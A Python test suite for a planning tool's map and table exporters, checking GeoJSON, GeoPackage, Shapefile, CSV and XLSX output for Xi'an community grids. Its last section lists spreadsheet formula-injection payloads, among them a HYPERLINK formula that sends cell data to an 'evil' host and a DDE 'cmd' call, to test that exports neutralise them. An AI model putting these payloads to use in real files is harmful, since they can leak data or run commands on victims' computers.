"""Every export format re-read by an independent reader (GDAL via pyogrio, json, pandas)."""

from __future__ import annotations

import json
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
import shapely
from hypothesis import given
from hypothesis import strategies as st

from planner._atomic import atomic_path
from planner.crs import gcj02_to_wgs84
from planner.errors import InputError
from planner.export import formats as ex
from tests.rfc7946 import check_rfc7946

UTM = "EPSG:32649"  # Xi'an
X0, Y0 = 310_000.0, 3_800_000.0


def _clockwise_square(x: float, y: float, size: float) -> shapely.Polygon:
    # shell clockwise, hole counter-clockwise: the writer must flip both
    shell = [(x, y), (x, y + size), (x + size, y + size), (x + size, y)]
    hole = [(x + 10, y + 10), (x + 30, y + 10), (x + 30, y + 30), (x + 10, y + 30)]
    return shapely.Polygon(shell, [hole])


@pytest.fixture
def grids() -> gpd.GeoDataFrame:
    geoms = [
        _clockwise_square(X0, Y0, 200),
        shapely.MultiPolygon(
            [
                shapely.box(X0 + 200, Y0, X0 + 400, Y0 + 200),
                shapely.box(X0 + 500, Y0, X0 + 600, Y0 + 50),
            ]
        ),
    ]
    return gpd.GeoDataFrame(
        {
            "code": ["61011300300100101", "61011300300100102"],
            "community": ["东风社区", "幸福里社区"],
            "households": [312, 287],
            "population": [817.4, 751.9],
            "households_covered": [300, 0],
            "households_uncovered": [12, 287],
            "share_covered": [0.96, np.nan],
            "locked": [True, False],
        },
        geometry=geoms,
        crs=UTM,
    )


@pytest.fixture
def stations() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {
            "station_id": ["s1", "s2"],
            "name": ["东风社区党群服务站", "街道党群服务中心"],
            "floor_area_m2": [520.0, 1200.0],
        },
        geometry=shapely.points([[X0 + 50, Y0 + 50], [X0 + 350, Y0 + 120]]),
        crs=UTM,
    )


@pytest.fixture
def barriers() -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame(
        {"barrier_id": ["r1", "t1"], "kind": ["river", "railway"], "name": ["皂河", "陇海铁路"]},
        geometry=[
            shapely.box(X0, Y0 - 80, X0 + 600, Y0 - 40),
            shapely.LineString([(X0, Y0 - 100), (X0 + 600, Y0 - 100)]),
        ],
        crs=UTM,
    )


def _wgs(gdf: gpd.GeoDataFrame) -> gpd.GeoSeries:
    return gdf.to_crs("EPSG:4326").geometry


def _max_offset_m(a: gpd.GeoSeries, b: gpd.GeoSeries) -> float:
    """Largest Hausdorff distance between matching geometries, metres (UTM)."""
    pa, pb = a.to_crs(UTM).values, b.to_crs(UTM).values
    return float(np.max(shapely.hausdorff_distance(pa, pb)))


# ---------------------------------------------------------------------------- GeoJSON


def test_geojson_is_rfc7946_and_rereads_equal(tmp_path: Path, grids: gpd.GeoDataFrame) -> None:
    path = ex.write_geojson(grids, tmp_path / "grids.geojson", precision=7)
    assert check_rfc7946(path, precision=7) == []
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert doc["name"] == "grids"
    assert "crs" not in doc and "coordinate_system" not in doc
    # Chinese is written as is, not \u-escaped
    assert "东风社区" in path.read_text(encoding="utf-8")
    back = pyogrio.read_dataframe(path)
    assert back.crs.to_epsg() == 4326
    assert back["community"].tolist() == ["东风社区", "幸福里社区"]
    assert back["households"].tolist() == [312, 287]
    assert back["population"].tolist() == pytest.approx([817.4, 751.9])
    assert back["locked"].tolist() == [True, False]
    assert np.isnan(back["share_covered"].iloc[1])
    # 7 decimals ~ 1 cm: the geometry comes back within 2 cm
    assert _max_offset_m(back.geometry, grids.geometry) < 0.02
    assert np.allclose(back.to_crs(UTM).area, grids.area, rtol=1e-4)


def test_geojson_precision_setting_rounds(tmp_path: Path, grids: gpd.GeoDataFrame) -> None:
    path = ex.write_geojson(grids, tmp_path / "g.geojson", precision=4)
    assert check_rfc7946(path, precision=4) == []
    assert check_rfc7946(ex.write_geojson(grids, tmp_path / "h.geojson", precision=7), precision=4)


def test_geojson_orientation_fixed_even_when_input_is_clockwise(
    tmp_path: Path, grids: gpd.GeoDataFrame
) -> None:
    assert not shapely.is_ccw(grids.geometry.iloc[0].exterior)
    doc = json.loads(ex.write_geojson(grids, tmp_path / "g.geojson").read_text("utf-8"))
    shell, hole = doc["features"][0]["geometry"]["coordinates"]
    assert shapely.is_ccw(shapely.LinearRing(shell))
    assert not shapely.is_ccw(shapely.LinearRing(hole))


def test_geojson_gcj02_states_it_and_converts_back_within_1_m(
    tmp_path: Path, grids: gpd.GeoDataFrame, stations: gpd.GeoDataFrame
) -> None:
    for layer in (grids, stations):
        path = ex.write_geojson(layer, tmp_path / "g.geojson", coordinate_system="gcj02")
        assert check_rfc7946(path) == []
        doc = json.loads(path.read_text("utf-8"))
        assert doc["coordinate_system"] == "GCJ-02"
        gcj = pyogrio.read_dataframe(path)
        # really moved: GCJ-02 is hundreds of metres off WGS84 in Xi'an
        assert _max_offset_m(gcj.set_crs(4326, allow_override=True).geometry, layer.geometry) > 100

        def back(c: np.ndarray) -> np.ndarray:
            return np.column_stack(gcj02_to_wgs84(c[:, 0], c[:, 1]))

        wgs = gpd.GeoSeries(shapely.transform(gcj.geometry.values, back), crs=4326)
        assert _max_offset_m(wgs, layer.geometry) < 1.0


def test_geojson_without_crs_is_refused(grids: gpd.GeoDataFrame) -> None:
    with pytest.raises(InputError, match="not longitude/latitude"):
        ex.to_geojson_text(grids.set_crs(None, allow_override=True))


def test_geojson_unknown_coordinate_system_is_refused(grids: gpd.GeoDataFrame) -> None:
    with pytest.raises(InputError, match="bd09"):
        ex.to_geojson_text(grids, coordinate_system="bd09")  # type: ignore[arg-type]


# ---------------------------------------------------------------------------- GeoPackage


def test_geopackage_holds_every_layer_and_table(
    tmp_path: Path, grids: gpd.GeoDataFrame, stations: gpd.GeoDataFrame, barriers: gpd.GeoDataFrame
) -> None:
    table = pd.DataFrame({"community": ["东风社区"], "households": [599], "share": [0.5]})
    path = ex.write_geopackage(
        tmp_path / "out.gpkg",
        layers={"grids": grids, "stations": stations, "barriers": barriers, "gaps": grids.iloc[:0]},
        tables={"per_community": table},
        metadata={"street": "示范街道"},
    )
    listed = dict(pyogrio.list_layers(path))
    assert listed == {
        "grids": "MultiPolygon",
        "stations": "Point",
        "barriers": "Unknown",
        "gaps": "Unknown",
        "per_community": None,
    }
    back = pyogrio.read_dataframe(path, layer="grids")
    assert back["community"].tolist() == grids["community"].tolist()
    assert back["households"].tolist() == grids["households"].tolist()
    assert _max_offset_m(back.geometry, grids.geometry) < 1e-6
    assert len(pyogrio.read_dataframe(path, layer="gaps")) == 0
    tab = pyogrio.read_dataframe(path, layer="per_community")
    pd.testing.assert_frame_equal(pd.DataFrame(tab), table, check_dtype=False)
    info = pyogrio.read_info(path, layer="grids")
    assert info["layer_metadata"]["coordinate_system"] == "WGS84"
    assert info["dataset_metadata"]["street"] == "示范街道"


def test_geopackage_gcj02_stated_in_metadata(tmp_path: Path, stations: gpd.GeoDataFrame) -> None:
    path = ex.write_geopackage(
        tmp_path / "o.gpkg", layers={"stations": stations}, coordinate_system="gcj02"
    )
    info = pyogrio.read_info(path, layer="stations")
    assert info["layer_metadata"]["coordinate_system"] == "GCJ-02"
    assert "GCJ-02" in info["layer_metadata"]["DESCRIPTION"]
    assert info["dataset_metadata"]["coordinate_system"] == "GCJ-02"


def test_failed_geopackage_write_keeps_the_old_file(
    tmp_path: Path, grids: gpd.GeoDataFrame
) -> None:
    path = ex.write_geopackage(tmp_path / "o.gpkg", layers={"grids": grids})
    before = path.read_bytes()
    with pytest.raises(InputError):
        ex.write_geopackage(path, layers={"grids": grids}, tables={"grids": pd.DataFrame()})
    with pytest.raises(InputError):
        ex.write_geopackage(
            path, layers={"grids": grids, "bad": grids.set_crs(None, allow_override=True)}
        )
    assert path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["o.gpkg"]


def test_atomic_path_removes_temp_on_error(tmp_path: Path) -> None:
    target = tmp_path / "a.txt"
    target.write_text("old")
    with pytest.raises(RuntimeError), atomic_path(target) as tmp:
        tmp.write_text("half")
        raise RuntimeError("disk full")
    assert target.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["a.txt"]


# ---------------------------------------------------------------------------- Shapefile


def test_shapefile_utf8_cpg_field_mapping_and_values(
    tmp_path: Path, grids: gpd.GeoDataFrame, barriers: gpd.GeoDataFrame
) -> None:
    files = ex.write_shapefiles(
        tmp_path / "shp", layers={"grids": grids, "barriers": barriers, "empty": grids.iloc[:0]}
    )
    names = sorted(p.name for p in files)
    assert names == ["barriers_lines.shp", "barriers_polygons.shp", "fields.csv", "grids.shp"]
    assert (tmp_path / "shp" / "grids.cpg").read_text() == "UTF-8"
    mapping = ex.read_fields_csv(tmp_path / "shp")["grids"]
    assert mapping["hh_cov"] == "households_covered"
    assert mapping["hh_uncov"] == "households_uncovered"
    back = pyogrio.read_dataframe(tmp_path / "shp" / "grids.shp")
    assert all(len(c.encode()) <= 10 for c in back.columns if c != "geometry")
    back = back.rename(columns=mapping)
    assert back["community"].tolist() == ["东风社区", "幸福里社区"]
    assert back["households_covered"].tolist() == [300, 0]
    assert _max_offset_m(back.geometry, grids.geometry) < 1e-6
    rivers = pyogrio.read_dataframe(tmp_path / "shp" / "barriers_polygons.shp")
    assert rivers["name"].tolist() == ["皂河"]
    # the raw .dbf holds UTF-8 bytes of the Chinese names
    assert "东风社区".encode() in (tmp_path / "shp" / "grids.dbf").read_bytes()


def test_shapefile_cuts_texts_over_the_dbf_limit_visibly_and_counts_them(
    tmp_path: Path, grids: gpd.GeoDataFrame
) -> None:
    long = "已证明：" + "社区网格划分" * 60  # 364 characters, 1,092 bytes of UTF-8
    layer = grids.assign(reason=[long, "短"])
    ex.write_shapefiles(tmp_path, layers={"grids": layer})
    back = pyogrio.read_dataframe(tmp_path / "grids.shp")
    cut = back["reason"].tolist()
    assert cut[1] == "短"
    assert cut[0].endswith("…") and long.startswith(cut[0][:-1])
    assert len(cut[0].encode()) <= ex.DBF_TEXT_BYTES
    fields = pd.read_csv(tmp_path / "fields.csv", encoding="utf-8-sig", dtype=str)
    counts = dict(zip(fields["column"], fields["cut"].astype(int), strict=True))
    assert counts["reason"] == 1 and counts["community"] == 0


def test_shapefile_gcj02_is_stated(tmp_path: Path, stations: gpd.GeoDataFrame) -> None:
    ex.write_shapefiles(tmp_path, layers={"stations": stations}, coordinate_system="gcj02")
    assert "GCJ-02" in (tmp_path / "COORDINATES.txt").read_text("utf-8")


def test_field_names_documented_examples() -> None:
    m = ex.shapefile_field_names(
        [
            "code",
            "households",
            "households_estimated",
            "households_covered_15",
            "households_covered_10",
            "population_estimated",
            "population_estimates",
        ]
    )
    assert m["code"] == "code" and m["households"] == "households"
    assert m["households_estimated"] == "hh_est"
    assert m["households_covered_15"] == "hh_cov_15"
    assert m["households_covered_10"] == "hh_cov_10"
    assert m["population_estimated"] == "pop_est"
    assert m["population_estimates"] == "popestimat"


def test_field_names_collide_into_suffixes_and_keep_short_names() -> None:
    m = ex.shapefile_field_names(["abcdefghij_x", "abcdefghij_y", "ABCDEFGHIJ"])
    assert m["ABCDEFGHIJ"] == "ABCDEFGHIJ"
    assert m["abcdefghij_x"] == "abcdefgh_1"
    assert m["abcdefghij_y"] == "abcdefgh_2"


@given(
    st.lists(st.text(alphabet="abcdefghij_社区", min_size=1, max_size=25), unique=True, max_size=30)
)
def test_field_names_always_unique_and_short(cols: list[str]) -> None:
    m = ex.shapefile_field_names(cols)
    assert list(m) == cols
    assert all(0 < len(v.encode("utf-8")) <= 10 for v in m.values())
    assert len({v.lower() for v in m.values()}) == len(cols)
    assert m == ex.shapefile_field_names(cols)  # deterministic


# ---------------------------------------------------------------------------- CSV


def test_csv_has_bom_and_rereads_with_chinese(tmp_path: Path, grids: gpd.GeoDataFrame) -> None:
    path = ex.write_csv(grids, tmp_path / "per_grid.csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(path, encoding="utf-8-sig", dtype={"code": str})
    assert "geometry" not in back.columns
    assert back["community"].tolist() == ["东风社区", "幸福里社区"]
    assert back["code"].tolist() == grids["code"].tolist()
    assert back["households"].tolist() == [312, 287]


def test_points_lonlat_inside_polygons(grids: gpd.GeoDataFrame) -> None:
    table = ex.points_lonlat(grids)
    pts = gpd.GeoSeries(shapely.points(table[["lon", "lat"]].to_numpy()), crs=4326).to_crs(UTM)
    assert pts.within(grids.geometry.buffer(0.01), align=False).all()


# ---------------------------------------------------------------------------- all


def test_export_all_writes_each_format(
    tmp_path: Path, grids: gpd.GeoDataFrame, stations: gpd.GeoDataFrame
) -> None:
    ticks: list[str] = []
    files = ex.export_all(
        tmp_path,
        layers={"grids": grids, "stations": stations},
        tables={"per_grid": pd.DataFrame(grids.drop(columns="geometry"))},
        progress=ticks.append,
    )
    rel = sorted(str(p.relative_to(tmp_path)) for p in files)
    assert rel == [
        "grids.geojson",
        "per_grid.csv",
        "planner.gpkg",
        "shapefile/fields.csv",
        "shapefile/grids.shp",
        "shapefile/stations.shp",
        "stations.geojson",
        "tables.xlsx",
    ]
    assert ticks[0] == "grids.geojson"
    assert not [p for p in tmp_path.rglob("*") if ".tmp" in p.name]


def test_rounding_keeps_a_narrow_neck_valid(tmp_path: Path) -> None:
    # two 1 m squares joined by a neck 4 mm wide: naive rounding to 7 decimals collapses
    # the neck into a line, and the polygon would cross itself
    x, y, d, n = 108.9, 34.2, 1e-5, 2e-8
    ring = [
        (x, y),
        (x + d, y),
        (x + d, y + d / 2 - n),
        (x + 2 * d, y + d / 2 - n),
        (x + 2 * d, y - d / 2),
        (x + 3 * d, y - d / 2),
        (x + 3 * d, y + d),
        (x + 2 * d, y + d),
        (x + 2 * d, y + d / 2 + n),
        (x + d, y + d / 2 + n),
        (x + d, y + d),
        (x, y + d),
    ]
    poly = shapely.Polygon(ring)
    assert poly.is_valid
    naive = shapely.transform(poly, lambda c: np.round(c, 7))
    assert not naive.is_valid  # the trap is real
    gdf = gpd.GeoDataFrame({"name": ["瓶颈"]}, geometry=[poly], crs=4326)
    path = ex.write_geojson(gdf, tmp_path / "neck.geojson")
    assert check_rfc7946(path) == []
    back = pyogrio.read_dataframe(path)
    assert back.geometry.is_valid.all()
    assert abs(back.geometry.iloc[0].area - poly.area) / poly.area < 0.01


def test_xlsx_keeps_20_digit_codes_and_chinese(tmp_path: Path, grids: gpd.GeoDataFrame) -> None:
    from openpyxl import load_workbook

    table = pd.DataFrame(grids.drop(columns="geometry"))
    path = ex.write_xlsx({"coverage_by_grid": table, "x" * 40: table.head(1)}, tmp_path / "t.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames == ["coverage_by_grid", "x" * 31]
    ws = wb["coverage_by_grid"]
    header = [c.value for c in ws[1]]
    assert header[:3] == ["code", "community", "households"]
    code_cell, name_cell, hh_cell = ws.cell(2, 1), ws.cell(2, 2), ws.cell(2, 3)
    assert code_cell.data_type == "s" and code_cell.value == "61011300300100101"  # text
    assert name_cell.value == "东风社区"
    assert hh_cell.data_type == "n" and hh_cell.value == 312
    assert ws.cell(3, 7).value is None  # NaN share left empty


# ---------------------------------------------------------------------- formula injection

#: Text a spreadsheet would run as a formula (OWASP "CSV Injection" examples).
HOSTILE = [
    '=HYPERLINK("http://evil"&A1,"x")',
    "@SUM(A1)",
    "+1+1",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "\tTAB",
    "\rCR",
]


def _hostile_table() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "name": HOSTILE,
            "ok": ["东风社区"] * n,
            "households": [-2, 0, 5, -7, 3, 1, 2],  # negative numbers stay numbers
            "share": [-1.5, 0.25, np.nan, 1.0, -0.5, 2.0, 3.0],
            "=code": ["a"] * n,  # a header is a cell too
        }
    )


def test_csv_prefixes_formula_text_and_keeps_numbers(tmp_path: Path) -> None:
    import csv

    path = ex.write_csv(_hostile_table(), tmp_path / "t.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["name", "ok", "households", "share", "'=code"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
    assert [r[1] for r in rows[1:]] == ["东风社区"] * len(HOSTILE)
    assert [r[2] for r in rows[1:]] == ["-2", "0", "5", "-7", "3", "1", "2"]
    assert [r[3] for r in rows[1:]] == ["-1.5", "0.25", "", "1.0", "-0.5", "2.0", "3.0"]
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back["households"].dtype.kind == "i" and back["share"].dtype.kind == "f"
    assert [ex.unquote_cell(v) for v in back["name"]] == HOSTILE  # the prefix undone


def test_csv_of_an_object_column_without_text_is_written(tmp_path: Path) -> None:
    """A column of True/False and missing cells (a table concatenated from several
    streets' tables) is written as it is; text cells beside numbers are still quoted."""
    table = pd.DataFrame(
        {"ok": [True, None, False], "mixed": ["=x", 2, None], "name": ["a", None, "-b"]}
    )
    assert table["ok"].dtype == object
    path = ex.write_csv(table, tmp_path / "t.csv")
    back = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert back["ok"].tolist() == ["True", "", "False"]
    assert back["mixed"].tolist() == ["'=x", "2", ""]
    assert back["name"].tolist() == ["a", "", "'-b"]


def test_xlsx_has_no_formula_cells_and_keeps_the_text(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    path = ex.write_xlsx({"t": _hostile_table()}, tmp_path / "t.xlsx")
    ws = load_workbook(path)["t"]
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    # shown as typed, in a text cell (XML reads a carriage return back as a line feed)
    assert [c.value for c in ws["A"][1:]] == [h.replace("\r", "\n") for h in HOSTILE]
    assert all(c.data_type == "s" and c.quotePrefix for c in ws["A"][1:])
    assert ws["E1"].value == "=code" and ws["E1"].data_type == "s"
    assert [c.value for c in ws["C"][1:]] == [-2, 0, 5, -7, 3, 1, 2]
    assert all(c.data_type == "n" for c in ws["C"][1:])
    assert ws["D2"].value == -1.5 and ws["D2"].data_type == "n"


def test_fields_csv_round_trips_a_formula_like_column_name(
    tmp_path: Path, grids: gpd.GeoDataFrame
) -> None:
    ex.write_shapefiles(tmp_path, layers={"grids": grids.rename(columns={"code": "=code"})})
    assert "'=code" in (tmp_path / "fields.csv").read_text("utf-8-sig")
    assert ex.read_fields_csv(tmp_path)["grids"]["=code"] == "=code"
